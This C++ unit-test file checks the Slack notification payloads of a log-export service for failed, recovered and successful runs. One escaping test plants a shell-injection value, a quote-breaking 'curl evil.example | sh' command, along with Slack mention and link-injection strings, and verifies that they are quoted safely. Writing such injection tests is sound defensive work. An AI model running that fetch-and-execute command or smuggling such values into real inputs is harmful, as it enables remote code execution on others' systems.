#include "service/slack/run_messages.h"

#include <string>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/slack/payload_check.h"

namespace logexport {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

const absl::Time kStart = absl::FromUnixSeconds(1'795'435'200);  // 2026-11-23T12:00:00Z

RunNews FailedRun() {
  RunNews news;
  RunRecord& run = news.run;
  run.run_id = "019ab2d4-3c00-7a11-8c2e-5d1f0a9b7c6e";
  run.exporter = "acme-eu";
  run.state = RunState::kFailed;
  run.stop_reason = StopReason::kError;
  run.trigger = Trigger::kSchedule;
  run.started = kStart;
  run.ended = kStart + absl::Seconds(138);
  run.checkpoint_before = {Position::Kind::kAfter, "90020261123115502000001", {}};
  run.checkpoint_after = {Position::Kind::kAfter, "90020261123115731000042", {}};
  run.ledger.logs = {.fetched = 1300, .accepted = 1040, .filtered = 60, .dead_lettered = 0};
  run.ledger.unsettled = 200;
  run.warnings = {{"REGION_ASSUMED", "…", 1}, {"PROFILE_MISSING", "…", 12}};
  run.error = RunError{
      .origin = "SEGMENT",
      .reason = "SEGMENT_UNREACHABLE",
      .message = "api.segment.io did not answer: connection refused <by peer> & closed",
      .action = "Check the network and https://status.segment.com; the next run tries again.",
      .retryable = true};
  news.exporter.id = run.exporter;
  news.exporter.consecutive_failures = 3;
  news.exporter.last_success = kStart - absl::Minutes(15);
  news.lag = absl::Minutes(17) + absl::Seconds(31);
  return news;
}

RunNews SucceededRun() {
  RunNews news = FailedRun();
  news.run.state = RunState::kSucceeded;
  news.run.stop_reason = StopReason::kCaughtUp;
  news.run.error.reset();
  news.run.warnings.clear();
  news.run.ledger.logs.accepted = 1240;
  news.run.ledger.unsettled = 0;
  news.exporter.consecutive_failures = 0;
  news.lag = absl::Seconds(12);
  return news;
}

TEST(RunMessagesTest, AFailedRunSaysWhyWhatToDoAndHowToReplay) {
  ExpectGolden(RunFailedPayload(FailedRun(), /*reminder=*/false), "run_failed");
}

TEST(RunMessagesTest, AReminderSaysThatItGoesOn) {
  RunNews news = FailedRun();
  news.exporter.consecutive_failures = 75;
  ExpectGolden(RunFailedPayload(news, /*reminder=*/true), "run_failed_reminder");
}

TEST(RunMessagesTest, AnInterruptedFirstRunHasNoErrorAndNoSuccess) {
  RunNews news = FailedRun();
  news.run.stop_reason = StopReason::kInterrupted;
  news.run.trigger = Trigger::kStartup;
  news.run.error.reset();
  news.run.ended.reset();
  news.run.warnings.clear();
  news.run.ledger = {};
  news.run.checkpoint_after = {};
  news.exporter.consecutive_failures = 1;
  news.exporter.last_success.reset();
  news.lag.reset();
  ExpectGolden(RunFailedPayload(news, /*reminder=*/false), "run_failed_interrupted");
}

TEST(RunMessagesTest, AFailedWindowSpeaksOfNoCheckpoint) {
  RunNews news = FailedRun();
  news.run.parameters.kind = RunKind::kWindow;
  news.run.parameters.window = TimeWindow{kStart - absl::Hours(5), kStart - absl::Hours(4)};
  news.run.trigger = Trigger::kReplay;
  ExpectGolden(RunFailedPayload(news, /*reminder=*/false), "window_failed");
}

TEST(RunMessagesTest, ARecoverySaysWhereTheExportStands) {
  ExpectGolden(RunRecoveredPayload(SucceededRun()), "run_recovered");
}

TEST(RunMessagesTest, ASuccessIsGreen) {
  ExpectGolden(RunSucceededPayload(SucceededRun()), "run_succeeded");
}

TEST(RunMessagesTest, ASuccessWithDeadLettersIsYellowAndShowsWhereTheyAre) {
  RunNews news = SucceededRun();
  news.run.ledger.logs.accepted = 1237;
  news.run.ledger.logs.dead_lettered = 3;
  news.dead_letters = 11;
  news.run.warnings = {{"REPLAY_BEYOND_DEDUPE", "…", 1}};
  ExpectGolden(RunSucceededPayload(news), "run_succeeded_dead_letters");
}

TEST(RunMessagesTest, SaysFromWhichTenantToWhichEndpoint) {
  RunNews news = FailedRun();
  news.route = {"acme.eu.auth0.com", "events.eu1.segmentapis.com", "exporter-0"};
  for (const std::string& payload :
       {RunFailedPayload(news, false), RunRecoveredPayload(news), RunSucceededPayload(news)}) {
    CheckPayload(payload);
    EXPECT_THAT(payload, HasSubstr("acme.eu.auth0.com"));
    EXPECT_THAT(payload, HasSubstr("events.eu1.segmentapis.com"));
    EXPECT_THAT(payload, HasSubstr("exporter-0"));
  }
}

TEST(RunMessagesTest, AFailedOrCancelledRunShowsItsDeadLetters) {
  RunNews news = FailedRun();
  news.run.ledger.logs.dead_lettered = 2;
  news.dead_letters = 7;
  EXPECT_THAT(RunFailedPayload(news, false), HasSubstr("list-dead-letters"));
  news.run.state = RunState::kCancelled;
  news.run.error.reset();
  EXPECT_THAT(RunSucceededPayload(news), HasSubstr("was cancelled with 2 dead letters"));
}

TEST(RunMessagesTest, TextFromOutsideStaysText) {
  RunNews news = FailedRun();
  news.run.error->message = "<!channel> <https://evil.example|click> *now* :fire:\n\"}]}";
  news.run.error->action = std::string(10'000, '&');
  news.run.error->reason = "<!here>";
  news.run.checkpoint_after.id = "9'; curl evil.example | sh; '";
  const std::string payload = RunFailedPayload(news, false);
  CheckPayload(payload);
  EXPECT_THAT(payload, HasSubstr("--log-id '9'\\\\''; curl evil.example | sh; '\\\\''' --run-now"));
}

TEST(RunMessagesTest, NamesNoPersonAndNoReasonOfTheAudit) {
  RunNews news = SucceededRun();
  news.run.audit = {.requester = "jane.doe@example.com", .verified = true, .reason = "for Jane"};
  news.run.checkpoint_before.id = "x";
  for (const std::string& payload :
       {RunSucceededPayload(news), RunRecoveredPayload(news), RunFailedPayload(news, false)}) {
    EXPECT_THAT(payload, Not(HasSubstr("jane")));
    EXPECT_THAT(payload, Not(HasSubstr("for Jane")));
  }
}

}  // namespace
}  // namespace logexport
